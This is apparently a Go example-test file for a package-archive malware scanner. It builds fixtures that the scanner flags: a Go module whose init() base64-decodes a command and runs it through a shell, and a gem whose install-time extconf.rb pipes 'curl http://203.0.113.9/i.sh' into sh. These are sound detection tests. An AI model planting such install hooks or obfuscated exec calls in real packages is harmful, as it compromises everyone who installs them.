package content_test

import (
	"bytes"
	"context"
	"fmt"
	"strings"

	"github.com/chaingate/chaingate/internal/contentdata"
	"github.com/chaingate/chaingate/risk/content"
)

// Scan a Go module zip (as the module proxy serves it) whose init
// decodes a shell command and runs it: only code that runs when a
// program imports the package is followed.
func ExampleScanPackageArchive_goModule() {
	mod, _ := contentdata.Zip(map[string][]byte{
		"example.com/bolt@v1.3.1/go.mod": []byte("module example.com/bolt\n"),
		"example.com/bolt@v1.3.1/db.go": []byte(`package bolt

import ("encoding/base64"; "os/exec")

func init() {
	c, _ := base64.StdEncoding.DecodeString("ZWNobyBoaQ==")
	exec.Command("/bin/sh", "-c", string(c)).Start()
}
`),
	})
	rep, err := content.ScanPackageArchive(context.Background(), "bolt-v1.3.1.zip", bytes.NewReader(mod))
	if err != nil {
		fmt.Println(err)
		return
	}
	fmt.Println(rep.Ecosystem, rep.Format, rep.Name, rep.Version, rep.InstallHooks)
	for _, f := range rep.Findings {
		fmt.Printf("%s [%s] %s:%d\n", f.Rule, f.Category, f.File, f.Line)
		if len(f.Flow) > 0 {
			fmt.Println(" ", strings.Join(f.Flow, " → "))
		}
	}
	fmt.Println("malicious:", rep.Malicious)
	// Output:
	// Go go-module-zip example.com/bolt v1.3.1 [init(): db.go]
	// exec-decoded [runtime.obfuscation] db.go:7
	//   decoded by encoding/base64.StdEncoding.DecodeString (line 6) → os/exec.Command (line 7)
	// install-spawn [process.spawn] db.go:7
	// malicious: true
}

// Scan a .gem whose extension (extconf.rb, run by RubyGems at install)
// pipes a download to a shell.
func ExampleScanPackageArchive_gem() {
	spec := []byte("--- !ruby/object:Gem::Specification\nname: fastjson\nversion: !ruby/object:Gem::Version\n  version: 0.1.0\nextensions:\n- ext/fastjson/extconf.rb\n")
	gem, _ := contentdata.Gem(spec, map[string][]byte{
		"ext/fastjson/extconf.rb": []byte("require 'mkmf'\n`curl -s http://203.0.113.9/i.sh | sh`\ncreate_makefile('fastjson')\n"),
	})
	rep, err := content.ScanPackageArchive(context.Background(), "fastjson-0.1.0.gem", bytes.NewReader(gem))
	if err != nil {
		fmt.Println(err)
		return
	}
	fmt.Println(rep.Ecosystem, rep.Name, rep.Version, rep.InstallHooks)
	for _, f := range rep.Findings {
		fmt.Printf("%s [%s] %s:%d\n", f.Rule, f.Category, f.File, f.Line)
	}
	fmt.Println("malicious:", rep.Malicious)
	// Output:
	// RubyGems fastjson 0.1.0 [extensions: ext/fastjson/extconf.rb]
	// install-spawn [process.spawn] ext/fastjson/extconf.rb:2
	// shell-download-exec [process.download-exec] ext/fastjson/extconf.rb:2
	// malicious: true
}
